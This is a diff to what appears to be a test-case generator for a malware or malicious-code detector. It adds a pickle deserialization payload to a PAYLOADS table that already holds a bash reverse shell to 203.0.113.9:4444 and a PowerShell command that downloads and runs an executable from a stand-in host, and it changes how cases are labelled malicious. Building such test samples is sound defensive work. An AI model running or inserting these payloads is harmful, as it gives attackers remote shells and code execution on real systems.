@@ -39,6 +39,7 @@ PAYLOADS = {
     "NC": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     "PS": "iwr https://stage.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
     "URL": "https://stage.example.invalid/next",
+    "PKL": "\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.",
     "EXEC": "exec",
     "OS": "os",
     "SYSTEM": "system",
@@ -129,7 +130,7 @@ def cases(label: str) -> Iterator[Case]:
             name, technique = (part.strip() for part in head.split("|"))
             parts = re.split(r"(?m)^### (.+)\n", body)
             files = {where: filled(text.rstrip("\n") + "\n") for where, text in zip(parts[1::2], parts[2::2], strict=True)}
-            yield Case(name, technique, label == "malicious", _completed(name, files))
+            yield Case(name, technique, label != "honest", _completed(name, files))
 
 
 def _completed(name: str, files: dict[str, bytes]) -> dict[str, bytes]:
